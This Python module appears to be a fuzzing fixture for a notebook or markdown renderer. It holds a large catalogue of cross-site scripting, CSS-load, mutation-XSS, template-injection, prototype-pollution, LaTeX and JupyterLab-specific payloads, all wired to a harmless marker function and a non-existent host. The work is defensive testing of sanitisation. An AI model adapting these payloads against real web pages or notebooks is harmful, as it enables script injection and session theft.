r"""Texts that would run a script, load something, or end the markup around them, if they were taken for markup.

Each has a number of its own. One that runs calls `wnb_ran(number)`; one that loads something asks for
`http://wnb-hit.invalid/number`, a host that does not exist. In the families below `RUN` and `URL` stand for these two,
`B64` for base64 of a page that runs.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator, Mapping, Sequence
from itertools import product

HOST = "wnb-hit.invalid"
_IMG = "<img src=x onerror=RUN>"

#: Spellings of the one element that runs a script without anything else.
SPELLINGS = (
    _IMG, "<IMG SRC=x OnErRoR=RUN>", "<img/src=x/onerror=RUN>", "<img src=x onerror='RUN'>",
    '<img src=x onerror="RUN">', '<img src="x"onerror=RUN>', "<img src=x onerror = RUN >",
    "<img\tsrc=x\tonerror=RUN\t>", "<img\nsrc=x\nonerror=RUN\n>", "<img\fsrc=x\fonerror=RUN>",
    "<img\rsrc=x\ronerror=RUN>", "<img src=x onerror=&#119;nb_ran(NUMBER)>",
    "<img src=x onerror=&#x77;nb_ran&lpar;NUMBER&rpar;>", "<img src=x onerror=window['wnb'+'_ran'](NUMBER)>",
    f"<{_IMG}", "<img src=x onerror=RUN//", "<img src=x:x onerror=RUN", '<img """>' + _IMG + '">',
    "<img src='x' alt='>' onerror='RUN'>", "<img src=x onerror=alert(NUMBER)>", "<image src=x onerror=RUN>",
    "<img src=URL>", "<img srcset='URL 1x'>",
)  # fmt: skip
#: Other elements that run a script by themselves, or on pointer events.
HANDLERS = (
    "<body onload=RUN>", "<body onpageshow=RUN>", "<frameset onload=RUN>", "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN></select>", "<textarea autofocus onfocus=RUN></textarea>",
    "<button autofocus onfocus=RUN>x", "<p tabindex=1 autofocus onfocus=RUN>x", "<video src=x onerror=RUN></video>",
    "<video><source onerror=RUN></video>", "<audio src=x onerror=RUN></audio>", "<video poster=URL></video>",
    "<details open ontoggle=RUN>x</details>", "<marquee onstart=RUN>x</marquee>",
    "<object data=x onerror=RUN></object>", "<style onload=RUN></style>", "<link rel=stylesheet href=x onerror=RUN>",
    "<iframe onload=RUN></iframe>", "<a href=x onmouseover=RUN>over</a>",
    "<div onpointerover=RUN style=position:fixed;inset:0>over</div>", "<b onclick=RUN>click</b>",
    "<x tabindex=1 onfocusin=RUN>x</x>",
    "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=RUN>x",
    "<table background=URL><td>x</table>", "<input type=image src=URL>", "<track src=URL>",
    "<dialog open onclose=RUN><form method=dialog><button>x",
)  # fmt: skip
SCRIPTS = (
    "<script>RUN</script>", "<ScRiPt>RUN</sCrIpT>", "<script\n>RUN</script\n>", "<script/x>RUN</script>",
    "<script src=URL></script>", "<script type=module>import 'URL'</script>", "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script>RUN//", "<script >RUN</script >", "<script><!--\nRUN\n--></script>", "<svg><script>RUN</script></svg>",
    "<svg><script href=URL /></svg>", "<script type=text/vbscript>RUN</script>", "<%00script>RUN</script>",
    "<script>eval(atob('d25iX3Jhbg==')+'(NUMBER)')</script>",
)  # fmt: skip
FRAMES = (
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.RUN&gt;'></iframe>", "<iframe src=javascript:parent.RUN></iframe>",
    "<iframe src=URL></iframe>", "<iframe src=data:text/html;base64,B64></iframe>", "<object data=URL></object>",
    "<object data=javascript:RUN></object>", "<embed src=URL>", "<embed src=javascript:RUN>",
    "<frameset><frame src=javascript:RUN></frameset>", "<base href=URL/><img src=x>",
    "<meta http-equiv=refresh content='0;url=URL'>", "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<link rel=stylesheet href=URL>", "<link rel=prefetch href=URL>", "<link rel=modulepreload href=URL>",
    "<link rel=preload as=image href=URL>", "<form action=javascript:RUN><button autofocus>x</form>",
    "<form><button formaction=javascript:RUN>x</button></form>",
    "<form id=f action=URL></form><input form=f type=submit>", "<portal src=URL></portal>",
    "<applet code=URL></applet>", "<fencedframe src=URL></fencedframe>",
)  # fmt: skip
SVG = (
    "<svg onload=RUN>", "<svg/onload=RUN>", "<svg><g onload=RUN></g></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>", "<svg><set onbegin=RUN attributeName=x></svg>",
    "<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>",
    "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,B64#x' /></svg>", f"<svg><foreignObject>{_IMG}</foreignObject></svg>",
    f"<svg><desc>{_IMG}</desc></svg>", "<svg><image href=URL /></svg>", "<svg><image href=x onerror=RUN /></svg>",
    "<svg><style>@import 'URL';</style></svg>", "<svg><feImage href=URL /></svg>", "<svg><discard onbegin=RUN></svg>",
    "<svg><rect fill='url(URL#a)' width=9 height=9 /></svg>", "<svg><use href=URL#a /></svg>",
)  # fmt: skip
SCHEMES = (
    "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "java\nscript:RUN", " javascript:RUN", "\x01javascript:RUN",
    "&#106;avascript&colon;RUN", "javascript://x/%0aRUN", "javas&Tab;cript:RUN", "vbscript:RUN",
    "data:text/html,<script>RUN</script>", "data:text/html;base64,B64", "data:image/svg+xml,<svg onload=RUN>",
    "//wnb-hit.invalid/NUMBER",
)  # fmt: skip
CARRIERS = ('<a href="%s">x</a>', "[x](%s)", "![x](%s)", "<%s>", "[x]: %s\n\n[x] ![x]", "$\\href{%s}{x}$")
MARKDOWN = (
    f"- item\n\n  {_IMG}", f"> {_IMG}", f"| a | b |\n|---|---|\n| {_IMG} | `{_IMG}` |", f"```html\n{_IMG}\n```",
    f"```{_IMG}\nx\n```", f"```x\n```{_IMG}", f"    {_IMG}\n\n{_IMG}", f"# {_IMG}", f"{_IMG}\n===",
    f"~~{_IMG}~~ **{_IMG}**", f"`` ` {_IMG} ``", '[x](http://a.invalid "\\" onmouseover=RUN x=\\"")',
    "[x](http://a.invalid 'x' onmouseover=RUN)", "![x\" onerror=RUN x=\"](x)", "![x](URL)", "![x][y]\n\n[y]: URL",
    f"[{_IMG}](http://a.invalid)", f"![{_IMG}](URL)", f"<!-- -->{_IMG}", f"<div>\n\n{_IMG}\n\n</div>",
    f"<![CDATA[{_IMG}]]>", f"<?php {_IMG} ?>", f"<!X {_IMG}>", "&lt;img src=x onerror=RUN&gt;",
    "&amp;lt;img src=x onerror=RUN&amp;gt;", "\\<img src=x onerror=RUN\\>", f"- [ ] {_IMG}", f"[^1]\n\n[^1]: {_IMG}",
    "[x](<javascript:RUN>)", "[x](\\javascript:RUN)", "[x](javascript&#58;RUN)", "[![x](URL)](javascript:RUN)",
    "<URL\"onmouseover=RUN>", "http://a.invalid/\"onmouseover=\"RUN", "www.wnb-hit.invalid/NUMBER\"onmouseover=RUN",
    "[x](http://a.invalid/'onmouseover='RUN)", "[x](" + "(" * 40 + "javascript:RUN" + ")" * 41,
    "[" * 60 + f"{_IMG}" + "](x)" * 60, "> " * 90 + _IMG,
)  # fmt: skip
#: Texts that end the text, attribute, element, string or template around them.
BREAK_OUTS = (
    '" onmouseover=RUN x="', "' onmouseover=RUN x='", "` onmouseover=RUN x=`", " onmouseover=RUN x=", f'">{_IMG}',
    f"'>{_IMG}", f"`>{_IMG}", f'"/>{_IMG}<"', f"-->{_IMG}<!--", f"--!>{_IMG}", f"]]>{_IMG}", f"?>{_IMG}", f"%>{_IMG}",
    f"</textarea>{_IMG}", f"</title>{_IMG}", f"</style>{_IMG}", "</script><script>RUN</script>", f"</noscript>{_IMG}",
    f"</pre></code>{_IMG}", f"</summary></details>{_IMG}", f"</option></select>{_IMG}", f"</td></tr></table>{_IMG}",
    f"</template>{_IMG}", f"</svg>{_IMG}", f"</span></div></div></div>{_IMG}", "';RUN;//", '";RUN;//', "`;RUN;//",
    "\\';RUN;//", "*/RUN/*", "\nRUN\n", "\u2028RUN\u2029", "${RUN}", "{{RUN}}", "#{RUN}", "<%= RUN %>",
    "{{constructor.constructor('RUN')()}}", "[[${RUN}]]", "{%raw RUN%}", "\\u003cimg src=x onerror=RUN\\u003e",
    "\\x3cimg src=x onerror=RUN\\x3e", "%3Cimg%20src=x%20onerror=RUN%3E", "+ADw-img src=x onerror=RUN+AD4-",
    "\uff1cimg src=x onerror=RUN\uff1e", "\u2039img src=x onerror=RUN\u203a", "{expression} {RUN}",
    "%(wnb)s %s {0} {!r} $RUN",
)  # fmt: skip
CSS = (
    "<style>@import 'URL';</style>", "<style>*{background:url(URL)}</style>",
    "<style>:root{--x:url(URL);background:var(--x)}</style>", "<p style='background:url(URL)'>x</p>",
    "<p style=width:expression(RUN)>x</p>", "<p style=-moz-binding:url(URL)>x</p>",
    "<p style='behavior:url(URL)'>x</p>", "<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>",
    "<ul style='list-style:url(URL)'><li>x</ul>", "<p style='cursor:url(URL),auto'>x</p>",
    "<p style='background:image-set(\"URL\" 1x)'>x</p>", "red;background:url(URL)", "url(URL)", "var(--x,url(URL))",
    "#fff url(URL)", "red}*{background:url(URL)}", "image-set('URL' 1x)", "red;width:expression(RUN)", "\\75rl(URL)",
    "red\n;background:url(URL)",
)  # fmt: skip
#: Markup that a parser reads differently the second time.
MUTATIONS = (
    f'<noscript><p title="</noscript>{_IMG}">', f'<math><mtext><table><mglyph><style><!--</style>{_IMG}',
    f"<svg></p><style><a id='</style>{_IMG}'>",
    f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{_IMG}">',
    f"<math><annotation-xml encoding='text/html'>{_IMG}", f'<noembed><p title="</noembed>{_IMG}">',
    f'<noframes><p title="</noframes>{_IMG}">', f'<xmp><p title="</xmp>{_IMG}">', f"<plaintext>{_IMG}",
    f'<svg><title><p title="</title>{_IMG}">', f'<select><template><p title="</select>{_IMG}">',
    f"<template shadowrootmode=open>{_IMG}</template>", f"<div><template shadowrootmode=open>{_IMG}</template></div>",
    f"<table><tr><style></td>{_IMG}", f"<!--><!--{_IMG}-->", f"<!-- --!>{_IMG}-->",
    f"<math><mi><![CDATA[<p title=']]>{_IMG}'>]]>", f"<p title='&lt;/p&gt;{_IMG}'>x</p>",
    f"<svg><p><style><!--</style>{_IMG}-->", f"<iframe><p title='</iframe>{_IMG}'>",
)  # fmt: skip
#: Attributes and links that JupyterLab and its widgets react to.
HOOKS = (
    "<button data-commandlinker-command=help:open data-commandlinker-args='{\"url\":\"URL\"}'>x</button>",
    "<a data-commandlinker-command=help:open data-commandlinker-args='{\"url\":\"javascript:RUN\"}' href=#>x</a>",
    "<b class=jp-mod-running data-commandlinker-command=notebook:run-all-cells data-number=NUMBER>x</b>",
    "[x](# \"data-commandlinker-command=help:open URL\")", "<a href='?reset#NUMBER'>x</a>",
    "<a href='command:help:open?URL'>x</a>", "[x](attachment:URL)", "[x](../lab/api/shutdown?NUMBER)",
    "[x](/api/kernels?NUMBER)", "![x](/api/contents/x?wnb-hit=NUMBER)", "[x](files/x.html?NUMBER)",
    "<div data-mime-type=text/html data-jp-x>" + _IMG + "</div>",
    "<div class='jp-RenderedHTML jp-OutputArea' id=jp-main>" + _IMG + "</div>",
    "<script type=application/vnd.jupyter.widget-view+json>{\"model_id\":\"NUMBER\"}</script>",
    "<jp-button onclick=RUN>x</jp-button>", "<div data-lm-suppress-shortcuts=true accesskey=x onclick=RUN>x</div>",
    "<details class=wnb-snapshot open ontoggle=RUN><summary>x</summary></details>",
)  # fmt: skip
#: MIME bundles and specs that notebook renderers draw.
SPECS = (
    '{"application/javascript": "RUN"}', json.dumps({"text/html": _IMG}),
    '{"data": {"text/html": "<script>RUN</script>"}, "metadata": {"isolated": true}}',
    ('```vega\n{"marks": [{"type": "image", "encode": {"enter": '
     '{"url": {"value": "URL"}, "href": {"value": "javascript:RUN"}}}}]}\n```'),
    '```vega-lite\n{"data": {"url": "URL"}, "mark": "image", "transform": [{"calculate": "RUN", "as": "x"}]}\n```',
    ('{"$schema": "https://vega.github.io/schema/vega/v5.json", "signals": [{"name": "x", "update": "RUN"}], '
     '"data": [{"name": "x", "url": "URL"}]}'),
    ('{"data": [{"type": "scatter", "text": ["<a href=\\"javascript:RUN\\">x</a>"]}], '
     '"layout": {"images": [{"source": "URL"}]}}'),
    "```mermaid\ngraph TD; A-->B; click A call wnb_ran(NUMBER)\n```",
    "```mermaid\ngraph TD; A[\"<img src=x onerror=RUN>\"]; click A \"javascript:RUN\"\n```",
    '{"model_id": "NUMBER", "version_major": 2, "_esm": "RUN", "url": "URL"}',
    '{"type": "FeatureCollection", "features": [], "attribution": "<img src=x onerror=RUN>"}', '%%javascript\nRUN',
    '%%html\n<script>RUN</script>', "!echo wnb_ran(NUMBER)", '{"x": 1}, "y": RUN, "z": {"x": 1}', '"}]};RUN;[{"',
    "</script>{\"x\":\"RUN\"}",
)  # fmt: skip
#: Names that every JavaScript object has, with values for them.
NAMES = (
    '{"__proto__": {"wnb_polluted": NUMBER, "innerHTML": "<img src=x onerror=RUN>"}}',
    '{"constructor": {"prototype": {"wnb_polluted": NUMBER}}}', "__proto__[wnb_polluted]=NUMBER",
    "__proto__.onload=RUN", "constructor.constructor('RUN')()", "toString=RUN",
    "{\"toString\": \"RUN\", \"then\": \"RUN\"}", "__wbg_NUMBER.then",
    "<form id=jupyterapp><input name=shell value=NUMBER>", "<a id=wnb_ran href=URL>x</a><a id=wnb_ran name=x>y</a>",
    "<img name=body src=URL>",
)  # fmt: skip
_MATH = (
    "\\href{javascript:RUN}{x}", "\\href{data:text/html;base64,B64}{x}", "\\class{x\" onmouseover=\"RUN}{x}",
    "\\cssId{x\" onmouseover=\"RUN}{x}", "\\style{background:url(URL)}{x}", "\\style{x\" onmouseover=\"RUN}{x}",
    "\\unicode[x\" onmouseover=\"RUN]{65}", "\\require{html}\\href{javascript:RUN}{x}", "\\require{URL}x",
    "\\require{../../URL}x", "\\data{commandlinker-command=help:open}{NUMBER}", "\\includegraphics{URL}",
    "\\url{javascript:RUN}", "\\text{<img src=x onerror=RUN>}", "\\html{<img src=x onerror=RUN>}",
    "\\mmlToken{mi}[href=\"javascript:RUN\"]{x}", "\\mmlToken{mi}[style=\"background:url(URL)\"]{x}",
    "\\bbox[background:url(URL)]{x}", "\\color{red;background:url(URL)}{x}", "\\colorbox{url(URL)}{x}",
    "\\enclose{circle}[mathbackground=\"url(URL)\"]{x}", "\\texttip{x}{<img src=x onerror=RUN>}",
    "\\eqref{javascript:RUN}", "\\tag{<img src=x onerror=RUN>} x", "\\def\\x{\\x\\x}\\x NUMBER",
    "\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{RUN}}}}", "\\let\\x=\\href \\x{javascript:RUN}{y}", "x<script>RUN</script>y",
    "x</mjx-container><img src=x onerror=RUN>", "\\def\\href#1#2{#1}\\newcommand{\\x}{RUN}\\x",
)  # fmt: skip
_FENCES = ("$%s$", "$$%s$$", "\\(%s\\)", "\\[%s\\]", "\\begin{equation}%s\\end{equation}")
ESCAPES = (
    f"\x1b[31m{_IMG}\x1b[0m", "<\x1b[0mimg src=x onerror=RUN>", "<i\x1b[1mmg src=x onerror=RUN>",
    "\x1b]8;;javascript:RUN\x07x\x1b]8;;\x07", "\x1b]8;;URL\x1b\\x\x1b]8;;\x1b\\", f"\x1b[{_IMG}m",
    "\x1b[38;2;1;2;3;\"onmouseover=RUN\"m x", f"\x9b31m{_IMG}", f"\x1b]0;{_IMG}\x07", f"\x1b[2J\x1b[H{_IMG}",
    f"\x1bP{_IMG}\x1b\\", f"x\r{_IMG}", f"x\b\b{_IMG}\x07",
)  # fmt: skip
CHARACTERS = (
    f"\u202e{_IMG}\u202c", f"\u2066{_IMG}\u2069", f"\u200f{_IMG}", "<\u200bimg src=x onerror=RUN>",
    "<im\0g src=x onerror=RUN>", "<img src=x on\0error=RUN>", f"\0{_IMG}", f"\ud800{_IMG}", f"{_IMG}\udc00",
    "<img\ud83d src=x onerror=RUN>", "<img src=x \udc3conerror=RUN>", f"\ufeff{_IMG}", f"\uffff{_IMG}\ufffe",
    "<\u017fcript>RUN</\u017fcript>", "<\u017fvg onload=RUN>", "<l\u0131nk rel=stylesheet href=URL>",
    "<im\u0261 src=x onerror=RUN>", "<img\u00a0src=x onerror=RUN>", "<img\u3000src=x onerror=RUN>",
    "<img src=x onerror=\uff37\uff2e\uff22(NUMBER)>", "\u0336" * 50 + _IMG, "\U0001f468\u200d\U0001f469" + _IMG,
    "\U000e0001" + _IMG, "<b>" * 300 + _IMG,
)  # fmt: skip
#: Possible icons of an agent: at most eight characters, no space.
ICONS = (
    "<script>",
    "<svg>",
    "<b>",
    "<!--",
    "</span>",
    '"',
    "'",
    "`",
    "&lt;b&gt;",
    "]]>",
    "${1}",
    "{{1}}",
    "\u202e",
    "$x$",
    "&#60;b>",
    "\\(x\\)",
)

FAMILIES: Mapping[str, Sequence[str]] = {
    "spellings": SPELLINGS, "handlers": HANDLERS, "scripts": SCRIPTS, "frames": FRAMES, "svg": SVG,
    # Every scheme in two carriers, and every carrier with each trick at least once: the whole product says nothing
    # more.
    "addresses": [
        carrier % scheme
        for (at, scheme), (place, carrier) in product(enumerate(SCHEMES), enumerate(CARRIERS))
        if place == 1 or (at + place) % 3 == 0
    ],
    "markdown": MARKDOWN, "break-outs": BREAK_OUTS, "css": CSS, "mutations": MUTATIONS, "hooks": HOOKS,
    "specs": SPECS, "names": NAMES,
    "math": [_FENCES[number % len(_FENCES)] % math for number, math in enumerate(_MATH)],
    "escapes": ESCAPES, "characters": CHARACTERS,
}  # fmt: skip


def _numbered() -> Iterator[str]:
    for number, text in enumerate(text for family in FAMILIES.values() for text in family):
        run = f"wnb_ran({number})"
        page = base64.b64encode(f"<script>parent.{run}</script>".encode()).decode()
        for word, value in (("RUN", run), ("URL", f"http://{HOST}/{number}"), ("B64", page), ("NUMBER", str(number))):
            text = text.replace(word, value)
        yield text


#: All payloads; the index of each is its number.
PAYLOADS: tuple[str, ...] = tuple(_numbered())


def family(number: int) -> str:
    """The family of the payload with this number."""
    for name, texts in FAMILIES.items():
        if number < len(texts):
            return name
        number -= len(texts)
    raise IndexError(number)
